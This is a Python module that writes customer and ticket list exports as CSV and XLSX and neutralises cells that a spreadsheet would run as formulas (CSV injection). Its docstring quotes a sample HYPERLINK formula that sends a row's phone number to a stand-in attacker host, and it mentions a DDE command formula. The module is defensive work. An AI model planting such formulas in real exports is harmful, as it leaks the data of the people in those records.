"""CSV that a spreadsheet opens as data: no cell of a download is ever run as a formula.

A cell starting with ``=``, ``+``, ``-`` or ``@`` — or with a tab or carriage return, which
spreadsheets skip before looking — is evaluated when the file is opened (CSV injection): a
customer named ``=HYPERLINK("https://evil.example/?"&B2, "Open")`` would, in the hands of
whoever opens the export, send the row's phone number away, and ``=cmd|...`` runs a command
through DDE. So every CSV the suite writes goes through :func:`encode_csv`, which prefixes
such a cell with a single quote (OWASP's rule): the spreadsheet shows the text, without the
quote, and runs nothing. :func:`restore` takes that quote off again where the suite reads its
own export back (the customer import), so a file round-trips unchanged.

An .xlsx has typed cells, so there the rule needs no mark: :func:`encode_xlsx` writes every
cell as a text cell (never a formula cell, whatever it starts with) and gives a cell that
looks like a formula Excel's quote prefix, so editing it keeps it text. The value itself stays
as it was, and the import reads it back unchanged.
"""

from __future__ import annotations

import csv
import io
import tempfile
from collections.abc import Iterable, Iterator, Mapping
from datetime import UTC

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def _formula_behind_marks(cell: str) -> bool:
    return cell.lstrip(TEXT_MARK).startswith(FORMULA_STARTS)


def neutralise(cell: str) -> str:
    """``cell`` as a spreadsheet must read it: as text, never as a formula. A value that
    already looks marked (``'=x``) is marked once more, so :func:`restore` gives it back."""
    return TEXT_MARK + cell if _formula_behind_marks(cell) else cell


def restore(cell: str) -> str:
    """The value :func:`neutralise` was given (a cell it did not change is returned as is)."""
    if cell.startswith(TEXT_MARK) and _formula_behind_marks(cell):
        return cell[1:]
    return cell


# Excel reads a CSV as the system's code page (GBK on a zh-CN Windows) unless it starts with
# this mark, so a file meant to be opened by a person begins with it.
UTF8_BOM = "\ufeff"


def encode_csv(rows: Iterable[Iterable[str]], *, byte_order_mark: bool = False) -> bytes:
    """``rows`` as UTF-8 CSV lines (CRLF, quoted where needed), every cell neutralised;
    ``byte_order_mark`` starts them with the UTF-8 byte-order mark (the file's first chunk)."""
    buffer = io.StringIO()
    if byte_order_mark:
        buffer.write(UTF8_BOM)
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerows([neutralise(cell) for cell in row] for row in rows)
    return buffer.getvalue().encode("utf-8")


XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
XLSX_CHUNK_BYTES = 1024 * 1024
# Excel's own limit on a sheet's name.
MAX_SHEET_TITLE = 31


def encode_xlsx(rows: Iterable[Iterable[str]], *, sheet_title: str) -> Iterator[bytes]:
    """``rows`` as an .xlsx workbook of one sheet, in chunks of at most 1 MiB.

    Every cell is a text cell; one that a spreadsheet would run as a formula also carries the
    quote prefix. The rows are consumed lazily and written to a temporary file (openpyxl's
    write-only mode keeps no row in memory); the workbook is a zip whose directory comes last,
    so its bytes follow once the last row is in.
    """
    # Imported here: openpyxl takes a good part of a second to import, and most processes that
    # import this module (the gateway, the console, CSV-only services) never write a workbook.
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    book = Workbook(write_only=True)
    sheet = book.create_sheet(title=sheet_title[:MAX_SHEET_TITLE])

    def text_cell(value: str) -> WriteOnlyCell:
        # XML 1.0 cannot hold control characters: openpyxl would refuse the whole file for one.
        text = ILLEGAL_CHARACTERS_RE.sub("", value)
        cell = WriteOnlyCell(sheet, value=text)
        cell.data_type = "s"  # openpyxl would make "=..." a formula cell
        if _formula_behind_marks(text):
            cell.quotePrefix = True
        return cell

    for row in rows:
        sheet.append([text_cell(value) for value in row])
    with tempfile.TemporaryFile() as file:
        book.save(file)
        file.seek(0)
        while chunk := file.read(XLSX_CHUNK_BYTES):
            yield chunk


# The languages a list export is headed in: Chinese names of the columns, or their keys (which
# are also the English headers). A request naming a locale gets a file for a person to open.
CHINESE_LOCALE = "zh-CN"
LOCALES = (CHINESE_LOCALE, "en-US")


def encode_table(
    header: list[str],
    pages: Iterable[list[list[str]]],
    *,
    xlsx: bool,
    sheet_title: str,
    for_reader: bool,
) -> Iterator[tuple[bytes, int]]:
    """A list export's file as ``(bytes, rows written so far)`` chunks: CSV a page per chunk
    (the header first), or the .xlsx workbook once every row is in. ``pages`` is consumed
    lazily, so a service writes each page's audit entries as it reads the page. A CSV
    ``for_reader`` (one with a locale) starts with the byte-order mark, without which Excel on a
    zh-CN Windows reads it as GBK. Every export of a list (customers, tickets) streams this way."""
    written = 0
    if xlsx:

        def rows() -> Iterator[list[str]]:
            nonlocal written
            yield header
            for page in pages:
                written += len(page)
                yield from page

        for data in encode_xlsx(rows(), sheet_title=sheet_title):
            yield data, written
        return
    yield encode_csv([header], byte_order_mark=for_reader), 0
    for page in pages:
        written += len(page)
        yield encode_csv(page), written


def header_of(columns: Iterable[str], chinese: Mapping[str, str], locale: str) -> list[str]:
    """The header line of a list export in ``locale``: the columns' Chinese names (``chinese``,
    column key → name) for zh-CN, else their keys."""
    if locale == CHINESE_LOCALE:
        return [chinese[column] for column in columns]
    return list(columns)


def record_row(
    record: object,
    columns: Iterable[str],
    locale: str,
    *,
    chinese_words: Mapping[str, Mapping[str, str]],
    time_columns: Iterable[str] = (),
) -> list[str]:
    """A stored record (a row of a service's table) as a list export's text cells, one per
    column (an attribute of ``record``): times in UTC ISO 8601, a stored enum word in Chinese
    for zh-CN where ``chinese_words`` has the column, everything else as text; None is empty."""
    times = set(time_columns)
    cells = []
    for column in columns:
        value = getattr(record, column)
        if value is None:
            cells.append("")
        elif column in times:
            cells.append(value.astimezone(UTC).isoformat().replace("+00:00", "Z"))
        elif column in chinese_words and locale == CHINESE_LOCALE:
            cells.append(chinese_words[column].get(value, value))
        else:
            cells.append(str(value))
    return cells
